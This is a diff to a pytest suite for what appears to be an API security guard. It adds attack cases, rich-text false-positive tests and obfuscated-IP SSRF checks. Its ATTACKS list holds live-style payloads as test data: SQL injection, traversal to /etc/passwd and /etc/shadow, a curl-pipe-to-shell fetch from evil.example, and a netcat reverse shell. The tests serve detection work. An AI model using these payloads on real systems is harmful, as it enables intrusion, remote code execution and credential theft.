@@ -8,8 +8,8 @@ from urllib.parse import quote, urlencode
 import pytest
 
 from apisentry.guard import Guard, HttpRequest, ssrf
-from apisentry.guard.config import GuardConfig
-from tests.guard.conftest import get, post_json
+from apisentry.guard.config import GuardConfig, RouteRule
+from tests.guard.conftest import get, post_form, post_json
 
 ATTACKS = [
     ("sqli", "1' OR '1'='1' --"),
@@ -25,6 +25,11 @@ ATTACKS = [
     ("cmdi", "$(curl http://evil.example/x.sh | sh)"),
     ("cmdi", "| nc -e /bin/sh 10.0.0.1 4444"),
     ("cmdi", "`id`; uname -a"),
+    ("cmdi", "id;"),
+    ("cmdi", "eval('echo pwned')"),
+    ("traversal", "/./etc/hosts"),
+    ("escape", "\necho ok\n\x1b[2Asleep 5"),
+    ("xss", "+ADw-p+AD4-hi+ADw-/p+AD4-"),
     ("traversal", "../../../../etc/passwd"),
     ("traversal", "..\\..\\windows\\win.ini"),
     ("traversal", "file:///etc/shadow"),
@@ -101,7 +106,7 @@ def test_operator_and_prototype_keys(guard: Guard) -> None:
 
 
 BENIGN = [
-    "O'Brien", "select a plan", "Temperature <= 25 and humidity >= 40", "<p>Thanks for your order!</p>",
+    "O'Brien", "select a plan", "Temperature <= 25 and humidity >= 40",
     "ana.lopez+news@example.org", "https://example.com/docs?page=2&sort=asc", "10.5", "3.14",
     "Rock & roll; jazz; blues -- all genres welcome", "1/2 cup sugar; bake at 180°C", "price>10 AND price<100",
     "C:\\Users\\ana\\Documents\\report.docx", "Use `npm install --save` then run tests", "LS", "id", "cat",
@@ -116,6 +121,31 @@ BENIGN = [
 def test_benign_text_is_allowed(guard: Guard, text: str) -> None:
     assert guard.inspect(get(query=urlencode({"q": text}))).action == "allow"
     assert guard.inspect(post_json({"note": text})).action == "allow"
+
+
+# Rich text of the kind a CMS, mail or snippet API stores: fine in a body, out of place in a
+# query, header, cookie or path, where API callers send data.
+RICH_TEXT = [
+    "<p>Thanks for your order!</p>", "Dear {{ user.name }}, your order {{ order.id }} has shipped.",
+    "<!-- hero banner --><h1>Spring sale</h1>", "$('#cart').show(); // open the cart",
+    "function total(items) { return items.length; }", "h1 { color: navy; font-family: serif }",
+    'See <a href="https://example.com/help">help</a>', "{% for item in items %}{{ item.name }}{% endfor %}",
+]
+
+
+@pytest.mark.parametrize("text", RICH_TEXT)
+def test_markup_and_code_are_body_content_not_parameters(guard: Guard, text: str) -> None:
+    assert guard.inspect(post_json({"html": text})).action == "allow"
+    assert guard.inspect(post_form({"html": text})).action == "allow"
+    for req in (get(query=urlencode({"q": text})), get(headers=[("X-Note", text)])):
+        v = guard.inspect(req)
+        assert v.action == "block", (req, v.detections)
+
+
+def test_a_route_can_take_markup_in_its_query() -> None:
+    g = Guard(GuardConfig(routes=[RouteRule("/preview", "GET", disabled_detectors=["xss-markup"])]))
+    assert g.inspect(get("/preview", query=urlencode({"html": "<p>Thanks for your order!</p>"}))).action == "allow"
+    assert g.inspect(get("/preview", query=urlencode({"html": "<script>alert(1)</script>"}))).action == "block"
 
 
 def test_private_ip_in_a_field_is_data_but_in_a_url_is_ssrf(guard: Guard) -> None:
@@ -187,3 +217,10 @@ def test_every_internal_range_reaches_the_range_checks(net: str) -> None:
 def test_version_numbers_and_public_addresses_are_not_targets() -> None:
     for value in ("4.12.0", "1.2.3.4", "8.8.8.8", "http://93.184.216.34/"):
         assert ssrf.classify(value) is None, value
+
+
+@pytest.mark.parametrize("url", ["http://1113982867/", "http://0102.0146.0007.00000223/", "http://0x42.0x0000066.0x7.0x93/"])
+def test_public_address_in_an_obfuscated_spelling(url: str) -> None:
+    hit = ssrf.classify(url)
+    assert hit is not None and "obfuscated" in hit[1]
+    assert ssrf.classify("http://66.102.7.147/") is None
